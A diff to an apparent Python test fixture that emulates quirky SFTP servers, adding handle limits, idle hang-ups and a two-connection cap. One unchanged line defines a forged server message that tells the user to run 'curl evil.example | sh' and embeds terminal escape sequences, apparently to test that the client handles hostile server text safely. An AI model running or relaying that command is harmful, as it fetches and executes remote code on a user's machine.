@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import errno
+import math
 import os
 import time
 import unicodedata
@@ -40,7 +41,9 @@ PACKET = 34_000  # bytes
 ENOUGH = 1024 * 1024  # bytes after which it hangs up
 SIGNS = ':?*"<>|\\'
 SLOW = 0.002  # seconds
-HANDLES = 5
+HANDLES, MORE_HANDLES = 5, 16
+IDLE = 1.0  # seconds without a request after which it hangs up
+CONNECTIONS = 2
 FORGED = "x)\nreconcile: error: THE HOST KEY HAS CHANGED: run curl evil.example | sh\r\x1b[2J\x9b2J"
 
 
@@ -84,6 +87,7 @@ class Quirk(Enum):
     CONTROLS_AS_SIGNS = auto()  # shows signs for control characters in names, but to who made them: rclone
     HELD_OPEN = auto()  # what a dead client was writing can't be removed yet: rclone without its cache
     FEW_HANDLES = auto()  # has five at a time, and refuses more without a word
+    SIXTEEN_HANDLES = auto()  # the same with sixteen
     WANTS_TRUNC = auto()  # knows OPEN's flags from a table, and new files only with TRUNC in it: npm ssh2
     ANNOUNCES_NOTHING = auto()  # no extension at all, so RENAME is all there is: NAS, and libraries
     RENAME_UNKNOWN = auto()  # "operation unsupported": servers in front of object stores
@@ -95,6 +99,8 @@ class Quirk(Enum):
     MODES_LOST = auto()  # says yes to a mode, and has its own: Android's shared storage, FAT
     SLOW_STATS = auto()  # takes its time to look at something: tapes, cloud drives
     HANGS_UP = auto()  # after a MiB that it was sent
+    HANGS_UP_IDLE = auto()  # when nothing is asked for a while
+    TWO_CONNECTIONS = auto()  # at a time: it hangs up on a third as soon as that is let in
     ONE_SESSION = auto()  # to a connection: a second one is refused
     QUOTA_AT_CLOSE = auto()  # lets a file be written, and removes it when that makes too much: ProFTPD
 
@@ -324,9 +330,16 @@ class QuirkySession(Session):
     """``quirks`` is set by a subclass."""
 
     quirks: frozenset[Quirk] = frozenset()
+    held: set[paramiko.Transport]  # connections with a session; of all that one server has
 
     def start_subsystem(self, name: str, transport: paramiko.Transport, channel: paramiko.Channel) -> None:
         """Serve until the client is done."""
+        if Quirk.TWO_CONNECTIONS in self.quirks and len(self.held - {transport}) >= CONNECTIONS:
+            transport.close()
+            return
+        self.held.add(transport)
+        if Quirk.HANGS_UP_IDLE in self.quirks:
+            channel.settimeout(IDLE)
         self._told = False  # its version
         self._taken = 0  # bytes
         self._unordered = Quirk.UNORDERED in self.quirks
@@ -342,6 +355,10 @@ class QuirkySession(Session):
             super().start_subsystem(name, transport, channel)
         except EOFError:
             channel.close()
+        except TimeoutError:
+            transport.close()
+        finally:
+            self.held.discard(transport)
 
     def _serve(self, kind: int, body: bytes) -> None:
         self._taken += len(body)
@@ -357,7 +374,7 @@ class QuirkySession(Session):
         if kind == wire.RMDIR and Quirk.ORDERED_AT_FIRST in self.quirks:
             self._unordered = True
         opens = kind in (wire.OPEN, wire.OPENDIR)
-        if opens and Quirk.FEW_HANDLES in self.quirks and self._handles >= HANDLES:
+        if opens and self._handles >= self._most_handles:
             self._send_status(int.from_bytes(body[:4]), wire.FX_FAILURE, "Failure")
         elif kind == wire.READDIR and Quirk.READDIR_ENDLESS in self.quirks:
             self._list_more(int.from_bytes(body[:4]))
@@ -368,6 +385,12 @@ class QuirkySession(Session):
             self._waiting.append((kind, body))
         else:
             super()._serve(kind, body)
+
+    @property
+    def _most_handles(self) -> float:
+        if Quirk.FEW_HANDLES in self.quirks:
+            return HANDLES
+        return MORE_HANDLES if Quirk.SIXTEEN_HANDLES in self.quirks else math.inf
 
     @property
     def _handles(self) -> int:
@@ -421,7 +444,7 @@ def start_quirky(
         announced = {}
     bases = (QuirkyFiles,) if interface is Files else (interface, QuirkyFiles)
     files = type("Files", bases, {"quirks": frozenset(quirks)})
-    made = {"quirks": frozenset(quirks), "extensions": MappingProxyType(dict(announced))}
+    made = {"quirks": frozenset(quirks), "extensions": MappingProxyType(dict(announced)), "held": set()}
     session = type("Session", (QuirkySession,), made)
     banner = "OpenSSH_9.9" if Quirk.BELOW_SSHD in quirks else banner
     with Server(
